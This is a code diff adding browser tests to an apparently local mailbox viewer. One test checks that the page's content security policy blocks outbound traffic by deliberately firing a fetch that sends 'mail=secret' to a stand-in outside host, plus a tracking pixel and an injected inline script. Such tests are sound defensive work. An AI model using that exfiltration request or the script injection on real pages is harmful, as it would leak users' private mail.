@@ -134,6 +134,33 @@ describe("a visitor's own mailbox", () => {
     expect(requests.filter((url) => new URL(url).origin !== stage.address)).toEqual([]);
   });
 
+  test('the browser itself refuses to let anything out', async () => {
+    const page = await open();
+    const refused = await page.evaluate(async () => {
+      const directives: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) =>
+        directives.push(event.effectiveDirective),
+      );
+      await fetch('http://elsewhere.example/?mail=secret').catch(() => undefined);
+      new Image().src = 'http://elsewhere.example/pixel.gif';
+      const script = document.createElement('script');
+      script.textContent = 'window.ran = 1';
+      document.body.append(script);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      return { directives, ran: 'ran' in window };
+    });
+    expect(refused.ran).toBe(false);
+    expect(refused.directives.sort()).toEqual(['connect-src', 'img-src', 'script-src-elem']);
+  });
+
+  test("asks anew whose mail it is: the demo's provider is forgotten", async () => {
+    const page = await open();
+    expect(await page.inputValue('#me')).toContain('sophie@');
+    await page.setInputFiles('#pick-contracts', [fileOf('boulangerie-martin.md', contract)]);
+    await ownReport(page);
+    expect(await page.inputValue('#me')).toBe('');
+  });
+
   test('reads gzip, single letters, and a folder with a Maildir', async () => {
     const page = await open();
     const [question, answer] = twoLetters;
